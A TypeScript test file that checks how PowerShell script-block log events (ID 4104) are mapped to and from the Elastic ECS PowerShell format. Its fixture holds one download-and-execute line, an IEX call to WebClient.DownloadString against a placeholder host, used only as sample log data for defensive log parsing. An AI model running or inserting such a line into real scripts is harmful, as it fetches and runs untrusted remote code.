import type { CanonicalEvent } from '../../../../../src/events/canonical-event.js';
import { encodePowerShellModule } from '../../../../../src/events/encode/ecs-powershell.js';
import { normaliseDocument } from '../../../../../src/events/formats/index.js';
import { readRecord } from '../../../../../src/events/read-record.js';

const scriptBlock: CanonicalEvent = {
  host: 'WKS7',
  channel: 'Microsoft-Windows-PowerShell/Operational',
  provider: 'Microsoft-Windows-PowerShell',
  eventId: 4104,
  time: Date.UTC(2020, 9, 22, 5, 54, 21, 520),
  format: 'winlogbeat',
  data: {
    MessageNumber: '1',
    MessageTotal: '1',
    ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
    ScriptBlockId: '0c8cf9b6-1ef1-4d45-9f5c-d3a0a2a1c0d1',
    Path: '',
  },
};

function read(text: string): CanonicalEvent | undefined {
  const [outcome] = readRecord(new TextEncoder().encode(text));
  return outcome?.kind === 'event' ? outcome.event : undefined;
}

describe('ECS PowerShell module mapping (4104)', () => {
  it.each(['winlogbeat', 'elastic-agent'] as const)('gives back every field of a script block (%s)', (shipper) => {
    // Act
    const text = encodePowerShellModule(scriptBlock, { shipper });
    // Assess: the module left no EventData at all (all moved, the empty Path removed)...
    expect(JSON.parse(text).winlog.event_data).toBeUndefined();
    expect(JSON.parse(text).powershell.file.script_block_text).toBe(scriptBlock.data.ScriptBlockText);
    // ...and the reader rebuilds it whole.
    expect(read(text)).toEqual({ ...scriptBlock, format: shipper });
  });

  it('takes a script path back from file.path', () => {
    const withPath = { ...scriptBlock, data: { ...scriptBlock.data, Path: 'C:\\s\\a.ps1' } };
    expect(read(encodePowerShellModule(withPath, { shipper: 'winlogbeat' }))?.data.Path).toBe('C:\\s\\a.ps1');
  });

  it('rebuilds nothing when the module did not run (no empty fields invented)', () => {
    const result = normaliseDocument(
      {
        '@timestamp': '2020-10-22T05:54:21.520Z',
        winlog: {
          channel: 'Microsoft-Windows-PowerShell/Operational',
          provider_name: 'Microsoft-Windows-PowerShell',
          computer_name: 'WKS7',
          event_id: '4104',
          event_data: { ScriptBlockText: 'x' },
        },
      },
      'json',
    );
    expect(result.ok && result.value.data).toEqual({ ScriptBlockText: 'x' });
  });
});
